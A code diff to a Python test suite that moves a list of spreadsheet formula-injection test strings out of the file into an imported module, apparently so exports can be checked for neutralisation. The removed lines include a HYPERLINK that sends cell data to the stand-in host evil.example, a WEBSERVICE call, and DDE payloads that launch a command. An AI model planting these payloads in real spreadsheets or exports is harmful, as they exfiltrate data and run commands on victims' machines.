@@ -14,7 +14,7 @@ from itertools import chain, repeat
 from typing import TYPE_CHECKING
 
 import pytest
-from graphs import HOSTILE, with_title
+from graphs import FORMULAS, HOSTILE, with_title
 from lxml import etree
 from platforms import bad_texts
 from tools import Tool
@@ -28,33 +28,6 @@ LIBREOFFICE = Tool(
     "tests with LibreOffice",
     "GRAPHBUILD_REQUIRE_OFFICE",
     "install it with: apt-get install libreoffice-calc-nogui",
-)
-# What else has been a formula somewhere, in a cell or behind what ends one.
-FORMULAS = (
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    '=WEBSERVICE("http://evil.example/")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "{=1+1}",
-    '"=1+1',
-    "'=1+1",
-    "\t=1+1",
-    "\r=1+1",
-    "\r\n=1+1",
-    " =1+1",
-    "＝1+1",
-    "a;=1+1;b",
-    "a\t=1+1\tb",
-    "a\n=1+1;b",
-    "x\r\n=1+1;=2+2",
-    '";=1+1',
-    '"\t=1+1',
-    '";"=1+1;',
-    "a;'=1+1;b",
-    "a; \ufeff=1+1;b",
 )
 GRAPHS = {"corpus": bad_texts, "titles": partial(with_title, *HOSTILE, *FORMULAS)}
 TABLES = [name.removesuffix(".csv") for name in FORMATS["csv"].files]
